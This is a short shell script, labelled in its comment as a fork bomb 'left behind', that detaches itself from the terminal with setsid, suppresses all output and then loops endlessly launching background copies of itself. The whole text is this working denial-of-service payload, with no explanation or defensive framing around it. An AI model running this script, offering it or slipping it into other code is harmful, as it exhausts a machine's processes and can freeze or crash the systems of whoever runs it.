# a fork bomb, left behind
bomb() { while :; do sh "$0" again & done; }
[ "$1" = again ] || { setsid sh "$0" again </dev/null >/dev/null 2>&1 & exit 0; }
bomb
